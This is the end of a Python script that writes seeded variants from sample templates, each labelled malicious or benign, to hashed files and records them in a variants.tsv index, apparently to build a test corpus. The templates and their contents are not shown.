    with open(os.path.join(out, "variants.tsv"), "w") as tsv:
        tsv.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for name, fn, cls, lang, expect in (BOT6_TEMPLATES if a.set == "r6" else BOT_TEMPLATES):
            for i in range(a.per):
                tag = "bots2:%s:%s:%d" % (a.seed, name, i)
                g = Gen(random.Random(tag), noise=False)
                g.malicious = cls == "malicious"
                g.lang = lang
                text = fn(g)
                fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + g.lang
                with open(os.path.join(out, fname), "wb") as f:
                    f.write(text.encode("latin-1"))
                tsv.write("\t".join((fname, cls, name, g.lang, expect, "-")) + "\n")


if __name__ == "__main__":
    main()
